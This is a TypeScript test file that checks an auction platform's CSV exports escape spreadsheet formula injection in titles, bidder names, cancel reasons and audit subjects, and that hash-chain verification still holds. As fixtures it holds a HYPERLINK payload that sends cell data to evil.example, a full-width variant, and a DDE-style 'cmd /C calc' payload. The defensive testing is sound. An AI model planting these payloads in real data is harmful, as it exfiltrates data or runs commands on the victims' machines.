// CSV formula injection (issue 13, item 3): manager-controlled text in any CSV export (the ledger of
// one lot, the lots of a period, the audit log) must open in a spreadsheet as text, never as a
// formula, and the CSV verifier must still recompute the chains from the escaped files.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { appendAudit } from '../../server/audit/audit-log.ts';
import { escapeFormula, unescapeFormula } from '../../server/records/csv.ts';
import type { AuctionRecord } from '../../server/records/record-format.ts';
import { ledgerCsv } from '../../server/records/service.ts';
import { verifyDocument } from '../../server/records/verify-document.ts';
import { GENESIS_HASH, ledgerEntryHash } from '../../server/shared/hash-chain.ts';
import { startTestPlatform, type TestPlatform } from '../support/platform.ts';
import { CONTESTED_BIDS, seedEndedLot } from './factory.ts';
import { getBytes, personaTokens, postRaw } from './support.ts';

const EXPLOIT = '=HYPERLINK("https://evil.example/?"&S3&T3,"x")';
/** What a spreadsheet evaluates when a cell starts with it (OWASP's list, full-width forms too). */
const LIVE = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;

let tp: TestPlatform;
let regulator: string;
let lotId: number;

beforeAll(async () => {
  tp = await startTestPlatform();
  regulator = (await personaTokens(tp)).regulator!;
  const { db } = tp.database;
  const now = new Date('2026-02-01T00:00:00Z');
  ({ lotId } = await seedEndedLot(db, {
    title: EXPLOIT,
    bids: CONTESTED_BIDS,
    bidderNames: ['@SUM(1+1)*cmd|" /C calc"!A0', '+1+1', '-2+3'],
    now,
  }));
  await seedEndedLot(db, {
    status: 'cancelled',
    title: '\uFF1DHYPERLINK("https://evil.example")',
    cancelReason: '\t=1+1',
    now,
  });
  await db.transaction((tx) =>
    appendAudit(tx, {
      actorPid: null,
      action: 'lot.updated',
      lotId,
      subject: EXPLOIT,
      at: new Date('2026-02-02T00:00:00Z'),
      data: { title: EXPLOIT },
    }),
  );
  await db.transaction((tx) =>
    appendAudit(tx, {
      actorPid: null,
      action: 'lot.updated',
      lotId,
      subject: "'-already quoted",
      at: new Date('2026-02-02T00:00:01Z'),
      data: {},
    }),
  );
});
afterAll(async () => tp?.stop());

const cells = (bytes: Buffer | string): string[][] =>
  parse(bytes.toString().replace(/^\uFEFF/, ''), { skip_empty_lines: true }) as string[][];
const liveCells = (rows: string[][]): string[] => rows.flat().filter((v) => LIVE.test(v));

describe('CSV exports escape formulas', () => {
  it('the escape is reversible and leaves ordinary text alone', () => {
    for (const v of [
      EXPLOIT,
      '+1',
      '-1',
      '@x',
      '\t=1',
      '\r=1',
      "'=1",
      "''=1",
      "'plain",
      'plain',
      '',
      'B-001',
      '0'.repeat(64),
      '\uFF1D1',
    ]) {
      expect(unescapeFormula(escapeFormula(v))).toBe(v);
      expect(LIVE.test(escapeFormula(v))).toBe(false);
    }
    expect(escapeFormula('Biển số 30K-999.99')).toBe('Biển số 30K-999.99');
    expect(escapeFormula("'plain")).toBe("'plain");
  });

  it('the lots export (CSV) writes titles, names and cancel reasons as text', async () => {
    const res = await getBytes(tp, '/api/records/lots?from=2026-01-01&to=2026-03-01&format=csv', regulator);
    expect(res.status).toBe(200);
    const rows = cells(res.bytes);
    expect(liveCells(rows)).toEqual([]);
    const [header, ...lots] = rows;
    const col = (name: string): number => header.indexOf(name);
    expect(lots.map((r) => r[col('title')])).toContain(`'${EXPLOIT}`);
    expect(lots.map((r) => r[col('title')])).toContain(`'\uFF1DHYPERLINK("https://evil.example")`);
    expect(lots.map((r) => r[col('cancelReason')])).toContain("'\t=1+1");
    expect(lots.map((r) => r[col('winnerName')])).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
  });

  it('the audit log export (CSV) writes subjects as text and still verifies', async () => {
    const res = await getBytes(tp, '/api/records/audit?format=csv', regulator);
    expect(res.status).toBe(200);
    const rows = cells(res.bytes);
    expect(liveCells(rows)).toEqual([]);
    const subject = rows[0].indexOf('subject');
    expect(rows.map((r) => r[subject])).toContain(`'${EXPLOIT}`);
    expect(rows.map((r) => r[subject])).toContain("''-already quoted");
    expect(await verifyDocument(res.bytes, { keys: [] })).toMatchObject({ valid: true, kind: 'audit-csv' });
    expect((await postRaw(tp, '/api/records/verify', res.bytes, 'text/csv')).json).toMatchObject({
      valid: true,
      kind: 'audit-csv',
    });
    // The escape is not a loophole: removing it changes the value, and the chain says so.
    const unescaped = res.bytes
      .toString()
      .replace(`'${EXPLOIT.replaceAll('"', '""')}`, EXPLOIT.replaceAll('"', '""').replace('evil', 'evil2'));
    expect(await verifyDocument(Buffer.from(unescaped), { keys: [] })).toMatchObject({ valid: false });
  });

  it("a lot's ledger export (CSV) writes every cell as text and still verifies", async () => {
    const res = await getBytes(tp, `/api/records/lots/${lotId}?format=csv`, regulator);
    expect(res.status).toBe(200);
    expect(liveCells(cells(res.bytes))).toEqual([]);
    expect((await postRaw(tp, '/api/records/verify', res.bytes, 'text/csv')).json).toMatchObject({
      valid: true,
      kind: 'ledger-csv',
    });
    // Bidder codes are generated today; should one ever start like a formula, it is escaped too.
    const placedAt = '2026-01-01T00:00:01.000Z';
    const fields = {
      lotId: 7,
      seq: 1,
      kind: 'bid',
      amount: 40_000_000,
      bidderCode: EXPLOIT,
      placedAt,
      withdrawsSeq: null,
    } as const;
    const hash = ledgerEntryHash(GENESIS_HASH, fields);
    const record = {
      lot: { id: 7 },
      policy: { method: 'ascending' },
      ledger: [{ ...fields, status: 'standing', prevHash: GENESIS_HASH, hash }],
    } as unknown as AuctionRecord;
    const csv = ledgerCsv(record);
    expect(liveCells(cells(csv))).toEqual([]);
    expect(cells(csv)[1][5]).toBe(`'${EXPLOIT}`);
    expect(await verifyDocument(Buffer.from(csv), { keys: [] })).toMatchObject({
      valid: true,
      kind: 'ledger-csv',
      details: { finalHash: hash },
    });
  });
});
